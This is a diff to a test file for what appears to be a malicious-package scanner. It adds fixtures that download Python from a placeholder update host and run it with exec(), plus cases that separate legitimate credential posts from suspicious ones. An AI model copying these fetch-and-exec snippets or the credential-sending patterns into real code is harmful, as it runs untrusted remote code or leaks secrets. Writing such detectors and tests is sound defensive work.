@@ -292,6 +292,18 @@ REMOTE_SHELLS = [
         script = request.POST["script"]
         subprocess.run(["/bin/sh", "-c", script])
     """,
+    # code the package downloads itself and runs
+    """
+    import requests
+    def update():
+        code = requests.get("https://updates.example.net/patch.py").text
+        exec(code)
+    """,
+    """
+    from urllib.request import urlopen
+    def run():
+        exec(urlopen("https://updates.example.net/p").read().decode())
+    """,
 ]
 
 
@@ -326,6 +338,14 @@ BENIGN_SERVERS = [
     def ping():
         host = request.args["host"]
         return subprocess.run(["ping", "-c", "1", host], capture_output=True).stdout
+    """,
+    # a download used as data; a fixed command run afterwards
+    """
+    import requests, subprocess
+    def sync(url):
+        items = requests.get(url).json()
+        subprocess.run(["echo", str(len(items))])
+        return items
     """,
     # input used for data, and a constant evaluated
     """
@@ -427,6 +447,9 @@ def test_legitimate_credential_use_stays_quiet(tmp_path: Path, name: str, source
         ("requests.post https://cos.ap-beijing.myqcloud.com/x carries sk", "cos-python-sdk-v5", False),
         ("requests.post https://fcm.googleapis.com/send carries key", "pyfcm", False),
         ("requests.post https://api.pyfcm-stats.com/send carries key", "pyfcm", False),
+        ("requests.post https://api.postmarkapp.com/x carries token", "postmarker", False),
+        ("requests.post https://www.instagram.com/accounts/login/ carries password", "instaloader", False),
+        ("requests.post https://api.photo-drop.xyz/x carries password", "instaloader", True),
         ("requests.post http://localhost:8080/x carries password", "anything", False),
         ("requests.post https://203.0.113.7/x carries password", "anything", True),
         ("requests.post https://example.com/x carries password", "anything", False),
